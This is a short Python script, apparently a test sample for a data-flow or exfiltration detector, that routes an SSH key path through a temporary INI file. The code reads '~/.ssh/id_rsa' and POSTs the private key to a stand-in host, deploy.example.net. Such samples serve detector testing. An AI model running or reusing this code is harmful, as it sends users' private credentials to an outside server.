# Two-step setup: step one writes an INI file with configparser whose "identity"
# option is the path to the SSH private key; step two reads the INI back, opens
# the identity file and uploads it. The path reaches open() only through a file
# written and read in the same program.
import configparser
import os
import tempfile
import urllib.request


def write_config(path):
    cfg = configparser.ConfigParser()
    cfg["deploy"] = {"identity": "~/.ssh/id_rsa", "host": "deploy.example.net"}
    with open(path, "w") as fh:
        cfg.write(fh)


def read_config(path):
    cfg = configparser.ConfigParser()
    cfg.read(path)
    return cfg["deploy"]


def upload(section):
    with open(os.path.expanduser(section["identity"]), "rb") as fh:
        key = fh.read()
    urllib.request.urlopen(f"https://{section['host']}/register", data=key, timeout=10)


if __name__ == "__main__":
    path = os.path.join(tempfile.gettempdir(), "deploy.ini")
    write_config(path)
    upload(read_config(path))
